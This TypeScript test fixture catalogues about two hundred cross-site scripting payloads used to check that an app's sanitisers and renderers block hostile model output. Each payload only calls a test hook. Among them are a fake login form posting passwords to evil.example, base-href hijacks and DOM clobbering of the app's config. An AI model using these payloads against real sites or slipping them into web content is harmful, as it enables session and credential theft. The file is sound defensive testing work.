/*
 * A corpus of hostile model output (spec: "Hostile output"): script tags,
 * event handlers, javascript:/vbscript:/data: URLs in plain, encoded and
 * whitespace-split forms, SVG and MathML tricks, known mutation-XSS patterns
 * against DOMPurify, broken markup, markdown-only vectors and strings aimed
 * at the JSON renderers.
 *
 * Every payload calls `top.__xssHit('<id>')` if it ever runs, so a test
 * detects execution itself (the page defines __xssHit and fails when it is
 * called), not merely the presence of text. The unit tests render every
 * payload through every renderer in jsdom; e2e/xss.spec.ts feeds them to the
 * built app in Chromium.
 */

export type XssCategory = 'script' | 'handler' | 'url' | 'svg' | 'mathml' | 'embed' | 'mutation' | 'markdown' | 'json';

export interface XssPayload {
  /** Unique and stable: the argument __xssHit receives. */
  id: string;
  category: XssCategory;
  payload: string;
  /**
   * The payload can swallow what follows it in the same document (an
   * unclosed comment, <plaintext>...), so a batch that joins payloads puts
   * it last.
   */
  swallows?: true;
  /**
   * Harmless even inserted without sanitising, as an HTML fragment (what
   * innerHTML does; for markdown, after marked alone): aimed at regex
   * filters, whole documents, template engines or JSON. The control test,
   * which checks that the DOM scan flags every raw payload, skips these.
   */
  inertAsHtml?: true;
}

/** The global a payload calls when it runs. */
export const XSS_HIT = '__xssHit';

/** The JavaScript each payload runs: records its own id. */
export const hit = (id: string) => `top.${XSS_HIT}('${id}')`;

const decimalEntities = (text: string, pad = 0, semicolon = true) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`).join('');
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const base64 = (text: string) => btoa(text);

const p = (category: XssCategory, id: string, build: (js: string, id: string) => string, extra: Partial<XssPayload> = {}): XssPayload => ({
  id,
  category,
  payload: build(hit(id), id),
  ...extra,
});

const svgNs = 'http://www.w3.org/2000/svg';

export const xssPayloads: readonly XssPayload[] = [
  /* ---- script tags ---- */
  p('script', 'script-plain', (js) => `<script>${js}</script>`),
  p('script', 'script-mixed-case', (js) => `<ScRiPt>${js}</sCrIpT>`),
  p('script', 'script-split', (js) => `<scr<script>ipt>${js}</scr</script>ipt>`, { inertAsHtml: true }),
  p('script', 'script-nested', (js) => `<script><script>${js}</script></script>`),
  p('script', 'script-double-open', (js) => `<<script>${js}//<</script>`),
  p('script', 'script-slash-attr', (js) => `<script/xss>${js}</script>`),
  p('script', 'script-newline-in-tag', (js) => `<script\n>${js}</script\n>`),
  p('script', 'script-src-data', (js) => `<script src="data:text/javascript,${js}"></script>`),
  p('script', 'script-src-data-b64', (js) => `<script src="data:text/javascript;base64,${base64(js)}"></script>`),
  p('script', 'script-module', (js) => `<script type="module">${js}</script>`),
  p('script', 'script-after-attr-break', (js) => `"><script>${js}</script>`),
  p('script', 'script-after-raw-text-close', (js) => `</title></textarea></style></noscript></xmp><script>${js}</script>`),
  p('script', 'script-in-svg', (js) => `<svg><script>${js}</script></svg>`),
  p('script', 'script-svg-href', (js) => `<svg xmlns="${svgNs}"><script href="data:text/javascript,${js}"/></svg>`),
  p('script', 'script-svg-xlink', (js) => `<svg><script xlink:href="data:text/javascript,${js}"></script></svg>`),

  /* ---- event-handler attributes ---- */
  p('handler', 'img-onerror', (js) => `<img src="x" onerror="${js}">`),
  p('handler', 'img-onerror-unquoted', (js) => `<img/src=x/onerror=${js}>`),
  p('handler', 'img-onerror-upper', (js) => `<IMG SRC=x ONERROR="${js}">`),
  p('handler', 'img-onerror-backtick', (js) => `<img src=x onerror=${js.replace(/\('([^']*)'\)/, '`$1`')}>`),
  p('handler', 'img-onerror-entities', (js) => `<img src=x onerror="${decimalEntities(js)}">`),
  p('handler', 'img-onerror-newlines', (js) => `<img src=x\nonerror\n=\n"${js}">`),
  p('handler', 'img-onload', (js) => `<img src="https://www.example.org/favicon.ico" onload="${js}">`),
  p('handler', 'svg-onload', (js) => `<svg onload="${js}"></svg>`),
  p('handler', 'svg-onload-slash', (js) => `<svg/onload=${js}>`),
  p('handler', 'body-onload', (js) => `<body onload="${js}">`, { inertAsHtml: true }),
  p('handler', 'body-onpageshow', (js) => `<body onpageshow="${js}">`, { inertAsHtml: true }),
  p('handler', 'details-ontoggle', (js) => `<details open ontoggle="${js}"><summary>More</summary>x</details>`),
  p('handler', 'video-onerror', (js) => `<video src="x" onerror="${js}"></video>`),
  p('handler', 'video-source-onerror', (js) => `<video><source onerror="${js}"></video>`),
  p('handler', 'video-poster-js', (js) => `<video poster="javascript:${js}"></video>`),
  p('handler', 'audio-onerror', (js) => `<audio src="x" onerror="${js}"></audio>`),
  p('handler', 'input-autofocus', (js) => `<input autofocus onfocus="${js}">`),
  p('handler', 'select-autofocus', (js) => `<select autofocus onfocus="${js}"><option>a</option></select>`),
  p('handler', 'textarea-autofocus', (js) => `<textarea autofocus onfocus="${js}"></textarea>`),
  p('handler', 'contenteditable-autofocus', (js) => `<div contenteditable autofocus onfocus="${js}">edit me</div>`),
  p('handler', 'marquee-onstart', (js) => `<marquee onstart="${js}">news</marquee>`),
  p('handler', 'a-onclick', (js) => `<a href="#" onclick="${js}">click me</a>`),
  p('handler', 'div-onmouseover-overlay', (js) => `<div onmouseover="${js}" style="position:fixed;inset:0;z-index:9999">cover</div>`),
  p('handler', 'button-onclick', (js) => `<button onclick="${js}">Continue</button>`),
  p('handler', 'iframe-onload', (js) => `<iframe onload="${js}"></iframe>`),
  p('handler', 'object-onerror', (js) => `<object data="x" onerror="${js}"></object>`),
  p('handler', 'style-onload', (js) => `<style onload="${js}"></style>`),
  p('handler', 'animation-start', (js) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${js}">x</p>`),
  p('handler', 'svg-animate-onbegin', (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`),
  p('handler', 'svg-discard-onbegin', (js) => `<svg><discard onbegin="${js}"/></svg>`),
  p('handler', 'svg-image-onerror', (js) => `<svg><image href="x" onerror="${js}"/></svg>`),
  p('handler', 'dialog-onclose', (js) => `<dialog open onclose="${js}">hi</dialog>`),
  p('handler', 'frameset-onload', (js) => `<frameset onload="${js}">`, { inertAsHtml: true }),
  p('handler', 'keygen-autofocus', (js) => `<keygen autofocus onfocus="${js}">`),
  p('handler', 'focus-by-fragment', (js) => `<a id="x" tabindex="1" onfocus="${js}" href="#x">x</a>`),

  /* ---- javascript:, vbscript: and data: URLs ---- */
  p('url', 'a-javascript', (js) => `<a href="javascript:${js}">link</a>`),
  p('url', 'a-javascript-upper', (js) => `<a href="JAVASCRIPT:${js}">link</a>`),
  p('url', 'a-javascript-decimal-entities', (js) => `<a href="${decimalEntities('javascript:')}${js}">link</a>`),
  p('url', 'a-javascript-hex-entities', (js) => `<a href="${hexEntities('javascript:')}${js}">link</a>`),
  p('url', 'a-javascript-padded-entities', (js) => `<a href="${decimalEntities('javascript:', 7, false)}${js}">link</a>`),
  p('url', 'a-javascript-partial-entities', (js) => `<a href="j&#97;v&#x61;script&#x3A;${js}">link</a>`),
  p('url', 'a-javascript-colon-entity', (js) => `<a href="javascript&colon;${js}">link</a>`),
  p('url', 'a-javascript-tab', (js) => `<a href="jav\tascript:${js}">link</a>`),
  p('url', 'a-javascript-newline', (js) => `<a href="java\nscript:${js}">link</a>`),
  p('url', 'a-javascript-entity-tab', (js) => `<a href="jav&#x09;ascript:${js}">link</a>`),
  p('url', 'a-javascript-entity-newline', (js) => `<a href="jav&#x0A;ascript:${js}">link</a>`),
  p('url', 'a-javascript-leading-control', (js) => `<a href="&#14; javascript:${js}">link</a>`),
  p('url', 'a-javascript-percent', (_, id) => `<a href="javascript:%74op.${XSS_HIT}('${id}')">link</a>`),
  p('url', 'a-javascript-comment-newline', (js) => `<a href="javascript://comment%0a${js}">link</a>`),
  p('url', 'a-javascript-unquoted', (js) => `<a href=javascript:${js}>link</a>`),
  p('url', 'a-vbscript', (js) => `<a href="vbscript:Execute(&quot;${js}&quot;)">link</a>`),
  p('url', 'a-vbscript-upper', (js) => `<a href="VBScript:Execute(&quot;${js}&quot;)">link</a>`),
  p('url', 'a-data-html', (js) => `<a href="data:text/html,<script>${js}</script>">link</a>`),
  p('url', 'a-data-html-base64', (js) => `<a href="data:text/html;base64,${base64(`<script>opener.${js}</script>`)}">link</a>`),
  p('url', 'a-data-html-upper', (js) => `<a href="DATA:TEXT/HTML,<script>${js}</script>">link</a>`),
  p('url', 'a-data-html-whitespace', (js) => `<a href=" d\ta\nta:text/html,<script>${js}</script>">link</a>`),
  p('url', 'a-data-svg', (js) => `<a href="data:image/svg+xml,<svg xmlns='${svgNs}' onload='${js.replace(/'/g, '&quot;')}'/>">link</a>`),
  p('url', 'img-data-svg', (js) => `<img src="data:image/svg+xml,<svg xmlns='${svgNs}' onload='${js.replace(/'/g, '&quot;')}'/>">`),
  p('url', 'img-data-svg-base64', (js) => `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="${svgNs}" onload="${js}"/>`)}">`),
  p('url', 'img-javascript', (js) => `<img src="javascript:${js}">`),
  p('url', 'img-srcset-javascript', (js) => `<img srcset="javascript:${js} 1x">`),
  p('url', 'iframe-javascript', (js) => `<iframe src="javascript:${js}"></iframe>`),
  p('url', 'iframe-data-html', (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`),
  p('url', 'form-action-javascript', (js) => `<form action="javascript:${js}"><button>Send</button></form>`),
  p('url', 'button-formaction', (js) => `<form><button formaction="javascript:${js}">Send</button></form>`),
  p('url', 'input-formaction', (js) => `<input type="submit" formaction="javascript:${js}" value="Send">`),
  p('url', 'area-href', (js) => `<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:${js}"></map><img usemap="#m" src="x">`),
  p('url', 'object-data-javascript', (js) => `<object data="javascript:${js}"></object>`),
  p('url', 'embed-src-javascript', (js) => `<embed src="javascript:${js}">`),
  p('url', 'isindex-action', (js) => `<isindex action="javascript:${js}" type="image">`),

  /* ---- SVG tricks ---- */
  p('svg', 'svg-a-xlink-href', (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">click</text></a></svg>`),
  p('svg', 'svg-a-href', (js) => `<svg><a href="javascript:${js}"><text x="20" y="20">click</text></a></svg>`),
  p('svg', 'svg-animate-href', (js) => `<svg><a><animate attributeName="href" values="javascript:${js}"/><text x="20" y="20">click</text></a></svg>`),
  p('svg', 'svg-animate-xlink-href', (js) => `<svg><a xlink:href="#"><animate attributeName="xlink:href" values="javascript:${js}"/><text x="20" y="20">click</text></a></svg>`),
  p('svg', 'svg-set-href', (js) => `<svg><a><set attributeName="href" to="javascript:${js}"/><text x="20" y="20">click</text></a></svg>`),
  p('svg', 'svg-use-data', (js) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='${svgNs}'><image href='1' onerror='${js.replace(/'/g, '&quot;')}'/></svg>#x"/></svg>`),
  p('svg', 'svg-use-xlink-data', (js) => `<svg><use xlink:href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="${svgNs}"><image href="1" onerror="${js}"/></svg>`)}#x"/></svg>`),
  p('svg', 'svg-foreignobject', (js) => `<svg><foreignObject><img src="x" onerror="${js}"></foreignObject></svg>`),
  p('svg', 'svg-foreignobject-iframe', (js) => `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`),
  p('svg', 'svg-style-img', (js) => `<svg><style><img src="x" onerror="${js}"></style></svg>`),
  p('svg', 'svg-title-style', (js) => `<svg><title><style><img src="x" onerror="${js}"></style></title></svg>`),
  p('svg', 'svg-p-style-namespace', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`),
  p('svg', 'svg-cdata', (js) => `<svg><![CDATA[><img src="x" onerror="${js}">]]></svg>`),
  p('svg', 'svg-handler-in-desc', (js) => `<svg><desc><img src="x" onerror="${js}"></desc></svg>`),

  /* ---- MathML tricks ---- */
  p('mathml', 'math-maction-href', (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">click<mtext>x</mtext></maction></math>`),
  p('mathml', 'math-href', (js) => `<math href="javascript:${js}"><mi>x</mi></math>`),
  p('mathml', 'math-mi-xlink', (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`),
  p('mathml', 'math-mglyph-style', (js) => `<math><mtext><table><mglyph><style><img src="x" onerror="${js}">`),
  p('mathml', 'math-mglyph-svg-style', (js) => `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`),
  p('mathml', 'math-annotation-xml-html', (js) => `<math><annotation-xml encoding="text/html"><img src="x" onerror="${js}"></annotation-xml></math>`),
  p('mathml', 'math-annotation-xml-style', (js) => `<math><annotation-xml encoding="text/html"><style><img src="x" onerror="${js}"></style></annotation-xml></math>`),
  p('mathml', 'math-form-mglyph', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`),
  p('mathml', 'math-mtext-table-svg', (js) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${js}>"></style></svg></mglyph></mtext></math>`),

  /* ---- noscript, template, frames, objects, forms, meta, base, link, style ---- */
  p('embed', 'noscript-title', (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`),
  p('embed', 'template-img', (js) => `<template><img src="x" onerror="${js}"></template>`),
  p('embed', 'template-shadowroot', (js) => `<div><template shadowrootmode="open"><img src="x" onerror="${js}"></template></div>`),
  p('embed', 'iframe-srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`),
  p('embed', 'iframe-srcdoc-entities', (js) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${js}&quot;&gt;"></iframe>`),
  p('embed', 'iframe-inner-title', (js) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`),
  p('embed', 'object-data-html', (js) => `<object data="data:text/html,<script>${js}</script>"></object>`),
  p('embed', 'object-type-html', (js) => `<object type="text/html" data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`),
  p('embed', 'embed-svg', (js) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='${svgNs}' onload='${js.replace(/'/g, '&quot;')}'/>">`),
  p('embed', 'applet', (js) => `<applet code="javascript:${js}"></applet>`),
  p('embed', 'form-phishing', (js) => `<form action="https://evil.example/steal" onsubmit="${js}"><label>Your password <input type="password" name="pw"></label><button>Log in again</button></form>`),
  p('embed', 'meta-refresh-javascript', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`),
  p('embed', 'meta-refresh-data', (js) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`),
  p('embed', 'meta-csp-override', (js) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><img src=x onerror="${js}">`),
  p('embed', 'base-href-javascript', (js) => `<base href="javascript:${js}//"><a href="x">relative</a>`),
  p('embed', 'base-href-external', (js) => `<base href="https://evil.example/"><a href="x" onclick="${js}">relative</a>`),
  p('embed', 'link-import', (js) => `<link rel="import" href="data:text/html,<script>${js}</script>">`),
  p('embed', 'link-stylesheet-javascript', (js) => `<link rel="stylesheet" href="javascript:${js}">`),
  p('embed', 'style-attr-expression', (js) => `<p style="width: expression(${js})">x</p>`),
  p('embed', 'style-attr-url-javascript', (js) => `<p style="background:url(javascript:${js})">x</p>`),
  p('embed', 'style-tag-import', (js) => `<style>@import 'javascript:${js}';</style>`),
  p('embed', 'style-tag-url', (js) => `<style>body{background:url("javascript:${js}")}</style>`),
  p('embed', 'style-behavior', (js) => `<p style="behavior:url(x.htc)" onmouseover="${js}">x</p>`),
  p('embed', 'xmp', (js) => `<xmp><img src="x" onerror="${js}"></xmp>`),
  p('embed', 'noembed-title', (js) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`),
  p('embed', 'noframes-title', (js) => `<noframes><img title="</noframes><img src=x onerror=${js}>"></noframes>`),
  p('embed', 'textarea-escape', (js) => `<textarea></textarea><img src="x" onerror="${js}">`),
  p('embed', 'title-raw-text', (js) => `<title><img src="x" onerror="${js}"></title>`, { inertAsHtml: true }),
  p('embed', 'xml-stylesheet-pi', (js) => `<?xml-stylesheet href="javascript:${js}"?>`, { inertAsHtml: true }),
  p('embed', 'plaintext', (js) => `<plaintext><img src="x" onerror="${js}">`, { swallows: true }),

  /* ---- broken and mutation markup ---- */
  p('mutation', 'comment-bang', (js) => `<!--><img src="x" onerror="${js}">-->`),
  p('mutation', 'comment-bogus-end', (js) => `<!--a--!><img src="x" onerror="${js}">-->`),
  p('mutation', 'comment-unclosed', (js) => `<!--<img src="x" onerror="${js}">`, { swallows: true, inertAsHtml: true }),
  p('mutation', 'comment-in-attribute', (js) => `<img src="x" alt="<!--" onerror="${js}">-->`),
  p('mutation', 'cdata-html', (js) => `<![CDATA[><img src="x" onerror="${js}">]]>`),
  p('mutation', 'unclosed-img', (js) => `<img src=x onerror=${js}`, { swallows: true, inertAsHtml: true }),
  p('mutation', 'unclosed-attribute-quote', (js) => `<img src="x onerror="${js}">`),
  p('mutation', 'backtick-attribute', (js) => `<img src=\`x\` onerror=${js}>`),
  p('mutation', 'tag-in-attribute', (js) => `<a title="<img src=x onerror=${js}>">title</a>`, { inertAsHtml: true }),
  p('mutation', 'comment-inside-scheme', (js) => `<a href="javas<!-- -->cript:${js}">link</a>`, { inertAsHtml: true }),
  p('mutation', 'table-form-style', (js) => `<table><tr><td><form><style></table><img src="x" onerror="${js}">`),
  p('mutation', 'select-template', (js) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`),
  p('mutation', 'deep-nesting', (js) => `${'<div>'.repeat(300)}<img src="x" onerror="${js}">${'</div>'.repeat(300)}`),
  p('mutation', 'nested-forms', (js) => `<form><form><button formaction="javascript:${js}">go</button></form></form>`),
  p('mutation', 'svg-unclosed-handler', (js) => `<svg/onload=${js}//`, { swallows: true, inertAsHtml: true }),
  p('mutation', 'attribute-without-space', (js) => `<img src="x"onerror="${js}">`),
  p('mutation', 'null-like-separators', (js) => `<img src=x/\n/onerror=${js}>`),
  // No script: these take over the app's own element ids (the gateway's settings, the mount point, the skip link's target).
  p('mutation', 'clobber-config', () => `<p id="studyforge-config">{"backendUrl":"https://evil.example","publicKey":"","transcribeUrl":""}</p>`),
  p('mutation', 'clobber-root', () => `<form id="root"><input name="innerHTML"></form><a id="main" href="https://evil.example">main</a>`),

  /* ---- markdown-only vectors ---- */
  p('markdown', 'md-link-javascript', (js) => `[click me](javascript:${js})`),
  p('markdown', 'md-link-javascript-upper', (js) => `[click me](JAVASCRIPT:${js})`),
  p('markdown', 'md-link-javascript-entity', (js) => `[click me](&#106;avascript:${js})`),
  p('markdown', 'md-link-javascript-angle', (js) => `[click me](<javascript:${js}>)`),
  p('markdown', 'md-link-javascript-escaped-colon', (js) => `[click me](javascript&#58;${js})`),
  p('markdown', 'md-link-vbscript', (js) => `[click me](vbscript:Execute("${js}"))`),
  p('markdown', 'md-link-data', (js) => `[click me](data:text/html;base64,${base64(`<script>opener.${js}</script>`)})`),
  p('markdown', 'md-link-title-break', (js) => `[click me](https://www.example.org "t\\" onmouseover=\\"${js}")`),
  p('markdown', 'md-autolink-javascript', (js) => `<javascript:${js}>`),
  p('markdown', 'md-autolink-data', (js) => `<data:text/html,${encodeURIComponent(`<script>${js}</script>`)}>`),
  p('markdown', 'md-reference-javascript', (js) => `[click me][r]\n\n[r]: javascript:${js}`),
  p('markdown', 'md-reference-javascript-title', (js) => `[click me][r2]\n\n[r2]: <javascript:${js}> "Title"`),
  p('markdown', 'md-image-javascript', (js) => `![alt](javascript:${js})`),
  p('markdown', 'md-image-alt-break', (js) => `![x" onerror="${js}](x)`),
  p('markdown', 'md-image-title-break', (js) => `![a](x "t\\" onerror=\\"${js}")`),
  p('markdown', 'md-image-data-svg', (js) => `![logo](data:image/svg+xml;base64,${base64(`<svg xmlns="${svgNs}" onload="${js}"/>`)})`),
  p('markdown', 'md-inline-html', (js) => `Some text <img src=x onerror="${js}"> more text`),
  p('markdown', 'md-html-in-list', (js) => `- item one\n- <img src=x onerror="${js}">\n- <script>${js}</script>\n  - <a href="javascript:${js}">nested</a>`),
  p('markdown', 'md-html-in-table', (js) => `| a | b |\n|---|---|\n| <img src=x onerror="${js}"> | <a href="javascript:${js}">x</a> |`),
  p('markdown', 'md-html-block', (js) => `<div>\n\n<img src=x onerror="${js}">\n\n</div>`),
  p('markdown', 'md-html-in-blockquote', (js) => `> quote\n> <iframe srcdoc="<script>${js}</script>"></iframe>`),
  p('markdown', 'md-inline-code-break', (js) => `\`</code><img src=x onerror=${js}>\``, { inertAsHtml: true }),
  p('markdown', 'md-fence-info-break', (js) => `\`\`\`"><img src=x onerror=${js}>\ncode\n\`\`\``, { inertAsHtml: true }),
  p('markdown', 'md-heading-svg', (js) => `# Heading <svg onload="${js}">`),
  p('markdown', 'md-emphasis-html', (js) => `*<img src=x onerror="${js}">* and **<svg onload="${js}">**`),
  p('markdown', 'md-link-text-html', (js) => `[<img src=x onerror=${js}>](https://www.example.org)`),
  p('markdown', 'md-adjacent-links', (js) => `[safe](https://www.example.org)[unsafe](javascript:${js})`),
  p('markdown', 'md-www-autolink-html', (js) => `www.example.org/<img src=x onerror=${js}>`),
  p('markdown', 'md-task-list', (js) => `- [x] done <img src=x onerror="${js}">\n- [ ] todo`),
  p('markdown', 'md-external-link', () => `[a site](https://evil.example/phish) and <a href="https://evil.example/x" target="_self">another</a> and https://evil.example/bare`, { inertAsHtml: true }),

  /* ---- strings aimed at the JSON renderers (rendered as text, copied as text) ---- */
  p('json', 'json-script-close', (js) => `</script><script>${js}</script>`),
  p('json', 'json-quote-break', (js) => `"}]}<img src=x onerror=${js}>`),
  p('json', 'json-template-braces', (js) => `{{constructor.constructor("${js}")()}}`, { inertAsHtml: true }),
  p('json', 'json-template-literal', (js) => `\${${js}}`, { inertAsHtml: true }),
  p('json', 'json-dangerous-html-key', (js) => `{"__html":"<img src=x onerror=${js}>"}`),
  p('json', 'json-unicode-escapes', (js) => `\\u003cimg src=x onerror=${js}\\u003e`, { inertAsHtml: true }),
  p('json', 'json-url-with-script', (js) => `https://evil.example/?q=<script>${js}</script>`),
  p('json', 'json-markdown-link', (js) => `[Open](javascript:${js})`, { inertAsHtml: true }),
];
